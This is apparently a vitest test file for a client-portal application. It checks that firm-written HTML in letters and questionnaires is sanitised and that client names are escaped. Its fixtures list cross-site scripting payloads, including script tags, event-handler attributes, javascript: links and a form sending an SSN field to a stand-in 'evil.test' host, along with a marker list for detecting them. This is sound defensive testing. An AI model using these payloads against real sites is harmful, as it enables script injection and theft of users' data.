// Firm-authored HTML in templates (issue 42 item 3): letters and custom sections are sanitised when
// saved and when served (template, staff preview, the client's questionnaire), and tags filled into
// a letter are HTML-escaped, so neither the firm's HTML nor a client's name runs in a reader's page.
import { describe, expect, it } from 'vitest';
import { DEMO_FIRM_ID } from '@portico/local-runtime/seed/demo-firm';
import { createFixtureUser } from '@portico/local-runtime/dev/dev-fixtures';
import type { TemplateDto } from '@portico/common/questionnaires/templates';
import { useTestApi } from '../../../test/support/api-harness';
import { CONTENT_PART, PARTS_COLLECTION } from '../questionnaire-parts';
import { questionnairesPath } from '../questionnaires.repo';
import { templatesPath } from '../templates/templates.repo';

const testApi = useTestApi();
const partner = () => testApi().as('partner');

/** What the firm keeps: formatting, lists, a table, safe links and an image of our own origin. */
const KEPT = [
  '<h3>Dear {{client_fname}},</h3>',
  '<p>Your <strong>{{tax_year}}</strong> return, <em>on time</em> and <u>in full</u>.</p>',
  '<ul><li>W-2</li><li>1099</li></ul><ol><li>Sign</li></ol>',
  '<table><tbody><tr><td>Fee</td><td>$300</td></tr></tbody></table>',
  '<a href="https://irs.gov" target="_blank" rel="noopener noreferrer">IRS</a>',
  '<a href="http://firm.test" rel="noopener noreferrer">Us</a>',
  '<a href="mailto:help@firm.test" rel="noopener noreferrer">Mail us</a>',
  '<img alt="Our logo" src="/branding/logo.png" />',
];
/** What no reader's browser may receive. */
const HOSTILE = [
  '<script>alert("script")</script>',
  '<img src=x onerror=alert("img")>',
  '<a href="javascript:alert(\'link\')">Click</a>',
  '<iframe src="https://evil.test/frame"></iframe>',
  '<form action="https://evil.test/steal"><input name="ssn"><button>Send</button></form>',
  '<svg onload=alert("svg")><circle r="1"></circle></svg>',
  '<p onclick="alert(\'p\')" style="background:url(https://evil.test/t.gif)">Styled</p>',
  '<img src="https://evil.test/pixel.gif">',
];
const MARKERS = [
  '<script',
  'onerror',
  'javascript:',
  '<iframe',
  '<form',
  '<input',
  '<svg',
  'onload',
  'onclick',
  'style=',
  'evil.test',
];

const expectClean = (html: string) => {
  for (const marker of MARKERS) expect(html, marker).not.toContain(marker);
  for (const kept of KEPT) expect(html, kept).toContain(kept);
  expect(html).toContain('<a rel="noopener noreferrer">Click</a>');
  expect(html).toContain('<p>Styled</p>');
};

const letterSections = (html: string) => [
  { id: 'welcome', name: 'Welcome {{client_fname}}', section_key: 'custom', custom_element: html },
  {
    id: 'letter',
    name: 'Engagement letter',
    section_key: 'agreement_signature',
    custom_element: html,
  },
  { id: 'review', name: 'Review', section_key: 'review_and_submit' },
];

async function templateWith(name: string, html: string): Promise<TemplateDto> {
  const api = await partner();
  const created = await api.post('questionnaire_templates', { name });
  expect(created.status, JSON.stringify(created.body)).toBe(201);
  const saved = await api.put(`questionnaire_templates/${created.body.id}`, {
    version: 1,
    sections: letterSections(html),
  });
  expect(saved.status, JSON.stringify(saved.body)).toBe(200);
  return saved.body as TemplateDto;
}

/** Sends the template to the entity (2025, due Apr 15); the questionnaire's id. */
async function sendTo(template: TemplateDto, companyId: string): Promise<string> {
  const sent = await (
    await partner()
  ).post('questionnaires/send_template', {
    questionnaire_template_id: template.id,
    company_ids: [companyId],
    tax_year: 2025,
    due_date: '2026-04-15',
  });
  expect(sent.status, JSON.stringify(sent.body)).toBe(201);
  return (sent.body.questionnaire_ids as string[])[0]!;
}

/** Where a questionnaire's sections are stored (questionnaire-parts.ts). */
const contentPath = (id: string) =>
  `${questionnairesPath(DEMO_FIRM_ID)}/${id}/${PARTS_COLLECTION}/${CONTENT_PART}`;
const storedSections = async (path: string) =>
  ((await testApi().store.doc(path).get()).data() as { sections: { custom_element: string }[] })
    .sections;

describe('letters and custom sections hold only the allowed HTML', () => {
  it('stores and serves a saved template without scripts, handlers, frames or forms, keeping formatting, lists, links and own images', async () => {
    const saved = await templateWith('Hostile letter', [...KEPT, ...HOSTILE].join(''));
    for (const section of saved.sections.slice(0, 2)) expectClean(section.custom_element);

    const stored = await storedSections(`${templatesPath(DEMO_FIRM_ID)}/${saved.id}`);
    for (const section of stored.slice(0, 2)) expectClean(section.custom_element);

    const api = await partner();
    const read = await api.get(
      `questionnaire_templates/get_template_by_id?template_id=${saved.id}`,
    );
    expectClean(read.body.sections[1].custom_element);
    const preview = await (
      await testApi().as('admin')
    ).get(`questionnaire_templates/${saved.id}/preview`);
    expect(preview.status).toBe(200);
    expect(preview.body.sections[1].custom_element).toBe(read.body.sections[1].custom_element);
    expect(preview.body.sections[1].custom_element).toContain('{{client_fname}}');
  });

  it('serves clean HTML from a template stored before the sanitiser, in the editor and the preview', async () => {
    const saved = await templateWith('Older letter', KEPT.join(''));
    const path = `${templatesPath(DEMO_FIRM_ID)}/${saved.id}`;
    const stored = await storedSections(path);
    stored[1]!.custom_element = [...KEPT, ...HOSTILE].join('');
    await testApi().store.doc(path).update({ sections: stored });

    const api = await partner();
    const read = await api.get(
      `questionnaire_templates/get_template_by_id?template_id=${saved.id}`,
    );
    expectClean(read.body.sections[1].custom_element);
    const preview = await api.get(`questionnaire_templates/${saved.id}/preview`);
    expectClean(preview.body.sections[1].custom_element);
    const copy = await api.post(`questionnaire_templates/${saved.id}/duplicate`);
    expectClean(
      (await storedSections(`${templatesPath(DEMO_FIRM_ID)}/${copy.body.id}`))[1]!.custom_element,
    );
  });

  it('shows a client whose name is markup that name as text in the letter, and as it is in plain text', async () => {
    const name = '<img src=x onerror=alert(1)>';
    const client = await createFixtureUser(testApi().store, () => testApi().clock.now(), {
      fname: name,
      lname: 'Quinn',
    });
    const template = await templateWith(
      'Organizer for {{client_fname}}',
      '<p>Dear {{client_fname}},</p><a href="https://firm.test" title="For {{client_fname}}">Us</a>',
    );
    const id = await sendTo(template, client.companyId!);

    const page = await (
      await testApi().asUser(client.id, client.firmId)
    ).get(`questionnaires/${id}`);
    expect(page.status, JSON.stringify(page.body)).toBe(200);
    const escaped = '&lt;img src=x onerror=alert(1)&gt;';
    for (const section of page.body.sections.slice(0, 2)) {
      expect(section.custom_element).toBe(
        `<p>Dear ${escaped},</p><a href="https://firm.test" title="For ${escaped}" rel="noopener noreferrer">Us</a>`,
      );
      expect(section.custom_element).not.toContain('<img');
    }
    // Plain text goes to the page as text (React escapes it) and to mail subjects as written.
    expect(page.body.sections[0].name).toBe(`Welcome ${name}`);
    expect(page.body.name).toBe(`Organizer for ${name}`);

    const stored = await storedSections(contentPath(id));
    expect(stored[1]!.custom_element).toContain(`Dear ${escaped},`);
  });

  it('serves clean HTML from a questionnaire sent before the sanitiser', async () => {
    const template = await templateWith('Sent long ago', '<p>Hello</p>');
    const client = await createFixtureUser(testApi().store, () => testApi().clock.now());
    const id = await sendTo(template, client.companyId!);
    const path = contentPath(id);
    const stored = await storedSections(path);
    stored[1]!.custom_element = [...KEPT, ...HOSTILE].join('');
    await testApi().store.doc(path).update({ sections: stored });

    const page = await (
      await testApi().asUser(client.id, client.firmId)
    ).get(`questionnaires/${id}`);
    expectClean(page.body.sections[1].custom_element);
    const staff = await (await partner()).get(`questionnaires/${id}`);
    expectClean(staff.body.sections[1].custom_element);
  });
});
